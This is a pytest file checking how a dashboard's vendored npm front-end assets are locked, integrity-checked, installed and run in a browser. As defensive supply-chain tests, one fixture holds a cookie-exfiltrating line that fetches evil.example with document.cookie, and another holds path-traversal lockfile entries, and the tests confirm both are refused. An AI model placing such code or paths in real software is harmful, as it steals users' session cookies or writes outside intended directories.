"""The dashboard's vendored front-end files: the lockfile, the fetch and its checks (on tiny real
npm-style tarballs, offline), the files the install step placed, and the libraries running in
Debian's Chromium from our own server."""

from __future__ import annotations

import base64
import hashlib
import io
import json
import logging
import mimetypes
import shutil
import subprocess
import sys
import tarfile
from collections.abc import Callable, Iterator
from pathlib import Path

import numpy as np
import pytest

from browser import WatchedPage, axe, static_site, unavailable
from eodeploy.web import assets
from eodeploy.web.assets import (
    ASSETS,
    FETCH_COMMAND,
    REGISTRY,
    VENDOR_DIR,
    AssetFetchError,
    AssetIntegrityError,
    AssetLockError,
    LockedFile,
    LockedPackage,
    dump_lock,
    install_package,
    load_lock,
    lock_drift,
    missing_assets,
)

# --- Tiny real packages, offline -------------------------------------------------------------------

FILES = {
    "dist/tiny.min.js": b"window.tiny = 42;\n",
    "dist/tiny.css": b".tiny{color:red}\n",
    "LICENSE": b"MIT\n",
}


def npm_tarball(files: dict[str, bytes]) -> bytes:
    """A gzipped tarball laid out as npm publishes them (everything under package/)."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tf:
        for name, data in files.items():
            info = tarfile.TarInfo(f"package/{name}")
            info.size = len(data)
            tf.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def locked(tarball: bytes, files: dict[str, bytes] = FILES, name: str = "tiny") -> LockedPackage:
    integrity = "sha512-" + base64.b64encode(hashlib.sha512(tarball).digest()).decode()
    return LockedPackage(
        name, "1.0.0", "dashboard", "MIT", f"{REGISTRY}{name}/-/{name}-1.0.0.tgz", integrity,
        tuple(
            LockedFile(f"package/{src}", f"{name}/{Path(src).name}", hashlib.sha256(data).hexdigest(), len(data))
            for src, data in files.items()
        ),
    )  # fmt: skip


@pytest.fixture
def tiny(tmp_path: Path) -> tuple[LockedPackage, bytes, Path, Path]:
    """A tiny package installed in tmp_path/vendor, and its lockfile tmp_path/lock.json."""
    tarball = npm_tarball(FILES)
    package = locked(tarball)
    vendor, lock = tmp_path / "vendor", tmp_path / "lock.json"
    install_package(package, tarball, vendor)
    dump_lock([package], lock)
    return package, tarball, vendor, lock


def test_install_places_exactly_the_listed_files(tiny: tuple[LockedPackage, bytes, Path, Path]) -> None:
    package, tarball, vendor, lock = tiny
    assert sorted(p.relative_to(vendor).as_posix() for p in vendor.rglob("*") if p.is_file()) == [
        "tiny/LICENSE", "tiny/tiny.css", "tiny/tiny.min.js",
    ]  # fmt: skip
    assert (vendor / "tiny/tiny.min.js").read_bytes() == FILES["dist/tiny.min.js"]
    assert load_lock(lock) == (package,)
    assert missing_assets(lock, vendor) == []
    # A previous version's file is removed, a tampered one replaced, the rest of vendor/ untouched.
    (vendor / "tiny/old.js").write_bytes(b"stale")
    (vendor / "tiny/tiny.css").write_bytes(b".tiny{color:blue}\n")
    (vendor / "other.txt").write_bytes(b"not ours")
    install_package(package, tarball, vendor)
    assert not (vendor / "tiny/old.js").exists()
    assert (vendor / "tiny/tiny.css").read_bytes() == FILES["dist/tiny.css"]
    assert (vendor / "other.txt").exists()


def test_tampered_tarball_is_refused_and_nothing_placed(tmp_path: Path) -> None:
    tarball = npm_tarball(FILES)
    package = locked(tarball)
    tampered = npm_tarball(
        {**FILES, "dist/tiny.min.js": b"fetch('https://evil.example/'+document.cookie);\n"}
    )
    with pytest.raises(
        AssetIntegrityError, match=r"tiny 1\.0\.0: the tarball .* does not match the lockfile"
    ):
        install_package(package, tampered, tmp_path / "vendor")
    flipped = bytearray(tarball)
    flipped[len(flipped) // 2] ^= 0x01
    with pytest.raises(AssetIntegrityError, match="tiny 1.0.0"):
        install_package(package, bytes(flipped), tmp_path / "vendor")
    assert not (tmp_path / "vendor").exists()


def test_file_differing_from_its_sha256_is_refused(tmp_path: Path) -> None:
    """A tarball that matches its integrity (a republished release, a lock edited by hand) but
    whose file differs from the sha256 recorded for it: nothing is placed."""
    tarball = npm_tarball(FILES)
    package = locked(tarball, {**FILES, "dist/tiny.css": b"something else\n"})
    with pytest.raises(AssetIntegrityError, match="package/dist/tiny.css in the tarball differs"):
        install_package(package, tarball, tmp_path / "vendor")
    assert not (tmp_path / "vendor").exists()
    missing = locked(tarball, {**FILES, "dist/gone.js": b"x"})
    with pytest.raises(AssetIntegrityError, match="the tarball has no"):
        install_package(missing, tarball, tmp_path / "vendor")


def test_check_finds_missing_and_tampered_files(tiny: tuple[LockedPackage, bytes, Path, Path]) -> None:
    _, _, vendor, lock = tiny
    assert assets.main(["--check", "--lockfile", str(lock), "--dest", str(vendor)]) == 0
    (vendor / "tiny/tiny.min.js").write_bytes(b"window.tiny = 43;\n")  # same size, other bytes
    (vendor / "tiny/LICENSE").unlink()
    assert missing_assets(lock, vendor) == [
        "tiny 1.0.0: tiny/tiny.min.js differs from the lockfile",
        "tiny 1.0.0: tiny/LICENSE is missing",
    ]
    # The real command line, for its exit status.
    run = subprocess.run(
        [sys.executable, "-m", "eodeploy.web.assets", "--check", "--lockfile", str(lock), "--dest", str(vendor)],
        capture_output=True, text=True, timeout=60,
    )  # fmt: skip
    assert run.returncode == 1
    assert "tiny/LICENSE is missing" in run.stderr and FETCH_COMMAND in run.stderr


def test_server_warning_names_the_command(
    tiny: tuple[LockedPackage, bytes, Path, Path], caplog: pytest.LogCaptureFixture
) -> None:
    _, _, vendor, lock = tiny
    logger = logging.getLogger("test_assets")
    assert assets.warn_missing_assets(logger, lock, vendor) == []
    assert not caplog.records
    (vendor / "tiny/tiny.css").unlink()
    with caplog.at_level(logging.WARNING):
        assert assets.warn_missing_assets(logger, lock, vendor) == ["tiny 1.0.0: tiny/tiny.css is missing"]
    assert "tiny/tiny.css is missing" in caplog.text and FETCH_COMMAND in caplog.text


@pytest.fixture
def no_network(monkeypatch: pytest.MonkeyPatch) -> None:
    """Every request through a proxy that is not there: the registry is unreachable."""
    from servers import free_port

    dead = f"http://127.0.0.1:{free_port()}"
    for var in ("HTTPS_PROXY", "https_proxy", "HTTP_PROXY", "http_proxy"):
        monkeypatch.setenv(var, dead)
    monkeypatch.setenv("NO_PROXY", "")
    monkeypatch.setenv("no_proxy", "")


@pytest.mark.usefixtures("no_network")
def test_fetch_skips_what_is_in_place_and_explains_network_failure(
    tiny: tuple[LockedPackage, bytes, Path, Path],
) -> None:
    package, _, vendor, lock = tiny
    assert assets.fetch(lock, vendor) == [(package, False)]  # no request made
    (vendor / "tiny/tiny.min.js").unlink()
    with pytest.raises(AssetFetchError) as err:
        assets.fetch(lock, vendor)
    message = str(err.value)
    assert message.startswith(
        "tiny 1.0.0: could not download https://registry.npmjs.org/tiny/-/tiny-1.0.0.tgz"
    )
    assert "HTTPS_PROXY" in message and FETCH_COMMAND in message


def test_tampered_lockfile_is_refused(tiny: tuple[LockedPackage, bytes, Path, Path], tmp_path: Path) -> None:
    _, _, vendor, lock = tiny
    doc = json.loads(lock.read_text())

    def broken(change: str, edit: object) -> Path:
        bad = json.loads(json.dumps(doc))
        entry = bad["packages"][0]
        if change == "to":
            entry["files"][0]["to"] = edit
        else:
            entry[change] = edit
        path = tmp_path / f"bad-{change}.json"
        path.write_text(json.dumps(bad))
        return path

    cases: list[tuple[str, object, str]] = [
        ("to", "tiny/../../evil.js", "is not a plain path under tiny/"),
        ("to", "/etc/evil.js", "is not a plain path under tiny/"),
        ("to", "leaflet/leaflet.js", "is not a plain path under tiny/"),
        ("tarball", "https://cdn.example.com/tiny.tgz", "is not on https://registry.npmjs.org/"),
        ("integrity", "sha1-abc", "integrity must be a sha512 digest"),
        ("files", [], "no files listed"),
        ("purpose", "prod", "purpose 'prod'"),
    ]
    for change, edit, message in cases:
        with pytest.raises(AssetLockError, match=message) as err:
            load_lock(broken(change, edit))
        assert "--lock" in str(err.value)
    truncated = tmp_path / "truncated.json"
    truncated.write_text(lock.read_text()[:100])
    with pytest.raises(AssetLockError, match="unreadable"):
        load_lock(truncated)
    # The server's check never raises: the problem becomes its warning.
    assert missing_assets(truncated, vendor)[0].startswith(f"lockfile {truncated}: unreadable")
    assert assets.main(["--lockfile", str(truncated), "--dest", str(vendor)]) == 1


# --- The shipped lockfile ----------------------------------------------------------------------------


def test_lockfile_matches_assets() -> None:
    """ASSETS changed without `python -m eodeploy.web.assets --lock` fails here."""
    packages = load_lock()
    assert lock_drift(packages) == []
    assert [(p.name, p.version) for p in packages] == [(w.name, w.version) for w in ASSETS]
    assert all(p.tarball.startswith(REGISTRY) for p in packages)
    # Every package brings its licence, except onnxruntime-web, whose tarball has none (MIT,
    # stated in the header of ort.wasm.min.js).
    licences = {p.name for p in packages if any(f.dest == f"{p.name}/LICENSE" for f in p.files)}
    assert licences == {p.name for p in packages} - {"onnxruntime-web"}


def test_lock_drift_is_reported() -> None:
    packages = load_lock()
    older = [
        *ASSETS[:2],
        assets.Wanted("htmx.org", "2.0.4", "dashboard", (("dist/htmx.min.js", "htmx.min.js"),)),
    ]
    assert lock_drift(packages, older) == [
        "htmx.org: the lockfile has 4.0.1 (dashboard), ASSETS wants 2.0.4 (dashboard)",
        "onnxruntime-web is in the lockfile but no longer wanted",
        "axe-core is in the lockfile but no longer wanted",
    ]


def test_dashboard_javascript_budget() -> None:
    """The JavaScript every dashboard page may load, onnxruntime-web aside (loaded only for
    in-browser inference), stays within 300 kB; a size, from the lock, not a timing."""
    sizes = {
        f.dest: f.size
        for p in load_lock()
        if p.purpose == "dashboard" and p.name != "onnxruntime-web"
        for f in p.files
        if f.dest.endswith((".js", ".mjs"))
    }
    assert set(sizes) == {"leaflet/leaflet.js", "uplot/uPlot.iife.min.js", "htmx.org/htmx.min.js"}
    assert sum(sizes.values()) <= 300_000, sizes


def test_wasm_and_module_content_types() -> None:
    assets.register_mimetypes()
    assert mimetypes.guess_type("ort-wasm-simd-threaded.wasm")[0] == "application/wasm"
    assert mimetypes.guess_type("ort-wasm-simd-threaded.mjs")[0] == "text/javascript"


# --- The files the install step placed --------------------------------------------------------------


def require_vendored() -> None:
    problems = missing_assets()
    if problems:
        unavailable(f"the vendored front-end files are not in place ({problems[0]}...): run {FETCH_COMMAND}")


def test_every_listed_file_is_in_place() -> None:
    require_vendored()
    for package in load_lock():
        for f in package.files:
            path = VENDOR_DIR / f.dest
            assert path.stat().st_size == f.size
            assert hashlib.sha256(path.read_bytes()).hexdigest() == f.sha256, f.dest


def test_check_on_a_tampered_copy(tmp_path: Path) -> None:
    require_vendored()
    copy = tmp_path / "vendor"
    shutil.copytree(VENDOR_DIR, copy)
    assert assets.main(["--check", "--dest", str(copy)]) == 0
    js = copy / "htmx.org/htmx.min.js"
    data = bytearray(js.read_bytes())
    data[100] ^= 0x20
    js.write_bytes(bytes(data))
    (copy / "leaflet/images/marker-icon.png").unlink()
    assert missing_assets(assets.LOCK_PATH, copy) == [
        "leaflet 1.9.4: leaflet/images/marker-icon.png is missing",
        "htmx.org 4.0.1: htmx.org/htmx.min.js differs from the lockfile",
    ]
    assert assets.main(["--check", "--dest", str(copy)]) == 1


# --- The libraries in a real browser, from a real server --------------------------------------------

INDEX = """<!doctype html>
<html lang="en">
<head>
<meta charset="utf-8">
<title>Vendored libraries</title>
<link rel="icon" href="data:,">
<link rel="stylesheet" href="/static/vendor/leaflet/leaflet.css">
<link rel="stylesheet" href="/static/vendor/uplot/uPlot.min.css">
<script src="/static/vendor/leaflet/leaflet.js"></script>
<script src="/static/vendor/uplot/uPlot.iife.min.js"></script>
<script src="/static/vendor/htmx.org/htmx.min.js"></script>
<script src="/static/vendor/onnxruntime-web/ort.wasm.min.js"></script>
</head>
<body>
<main>
<h1>Vendored libraries</h1>
<div id="map" style="height: 200px"></div>
<div id="chart"></div>
<button hx-get="/fragment.html" hx-target="#swap">Load</button>
<p id="swap">before</p>
</main>
<script>
const map = L.map("map", {center: [52.93, -9.35], zoom: 10});
L.marker([52.93, -9.35], {alt: "Lahinch"}).addTo(map);
new uPlot({width: 400, height: 200, series: [{}, {label: "hectares", stroke: "blue"}]},
          [[1, 2, 3], [10, 12, 9]], document.getElementById("chart"));
</script>
</body>
</html>
"""

RUN_ORT = """async ([a, b, dims]) => {
  ort.env.wasm.numThreads = 1;
  ort.env.wasm.wasmPaths = "/static/vendor/onnxruntime-web/";
  const model = new Uint8Array(await (await fetch("/add.onnx")).arrayBuffer());
  const session = await ort.InferenceSession.create(model, {executionProviders: ["wasm"]});
  const out = await session.run({
    a: new ort.Tensor("float32", Float32Array.from(a), dims),
    b: new ort.Tensor("float32", Float32Array.from(b), dims),
  });
  return {data: Array.from(out.c.data), dims: out.c.dims};
}"""

WEIGHTS = np.array([0.5, -2.0, 3.0], dtype=np.float32)


def add_mul_onnx() -> bytes:
    """c = (a + b) * w: two inputs and an initializer."""
    from onnx import TensorProto, helper, numpy_helper

    graph = helper.make_graph(
        [helper.make_node("Add", ["a", "b"], ["s"]), helper.make_node("Mul", ["s", "w"], ["c"])],
        "add_mul",
        [helper.make_tensor_value_info(n, TensorProto.FLOAT, ["batch", 3]) for n in ("a", "b")],
        [helper.make_tensor_value_info("c", TensorProto.FLOAT, ["batch", 3])],
        initializer=[numpy_helper.from_array(WEIGHTS, "w")],
    )
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)])
    model.ir_version = 8
    return model.SerializeToString()


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    require_vendored()
    root = tmp_path_factory.mktemp("site")
    (root / "index.html").write_text(INDEX)
    (root / "fragment.html").write_text("<strong>after</strong>")
    (root / "add.onnx").write_bytes(add_mul_onnx())
    with static_site(root, root.parent / "site.log") as url:
        yield url


def test_libraries_load_and_work_without_console_errors(
    site: str, open_page: Callable[..., WatchedPage]
) -> None:
    watched = open_page(f"{site}/")
    page = watched.page
    assert page.evaluate("() => [L.version, typeof uPlot, htmx.version, ort.env.versions.web]") == [
        "1.9.4", "function", "4.0.1", "1.30.0",
    ]  # fmt: skip
    # Leaflet finds its marker image beside its stylesheet (images/), so it must have been served.
    page.wait_for_function(
        "() => { const m = document.querySelector('#map img.leaflet-marker-icon');"
        " return m && m.complete && m.naturalWidth > 0; }"
    )
    assert page.locator("#chart canvas").count() == 1
    assert "hectares" in page.locator("#chart .u-legend").inner_text()
    page.get_by_role("button", name="Load").click()
    page.locator("#swap strong").wait_for()
    assert page.locator("#swap").inner_text() == "after"
    watched.assert_clean()


def test_onnxruntime_web_runs_a_model_in_wasm(site: str, open_page: Callable[..., WatchedPage]) -> None:
    watched = open_page(f"{site}/")
    page = watched.page
    types: dict[str, str] = {}
    page.on(
        "response", lambda r: types.__setitem__(r.url.rsplit("/", 1)[1], r.headers.get("content-type", ""))
    )
    rng = np.random.default_rng(3)
    a, b = rng.normal(size=(2, 4, 3)).astype(np.float32)
    out = page.evaluate(RUN_ORT, [a.ravel().tolist(), b.ravel().tolist(), [4, 3]])
    assert out["dims"] == [4, 3]
    np.testing.assert_allclose(
        np.array(out["data"], dtype=np.float32).reshape(4, 3), (a + b) * WEIGHTS, rtol=1e-6
    )
    # Streaming compilation needs application/wasm; the glue is a module script.
    assert types["ort-wasm-simd-threaded.wasm"] == "application/wasm"
    assert types["ort-wasm-simd-threaded.mjs"].startswith("text/javascript")
    watched.assert_clean()


def test_axe_finds_serious_violations_and_passes_a_clean_page(
    site: str, open_page: Callable[..., WatchedPage]
) -> None:
    watched = open_page(f"{site}/")
    assert axe(watched.page) == []
    watched.page.set_content("<html><body><img src='/static/vendor/leaflet/images/layers.png'></body></html>")
    found = {v["id"]: v for v in axe(watched.page)}
    assert found["image-alt"]["impact"] == "critical"
    assert found["image-alt"]["targets"] == [["img"]]
    assert {"html-has-lang", "document-title"} <= set(found)
    assert all(v["impact"] in ("serious", "critical") for v in found.values())
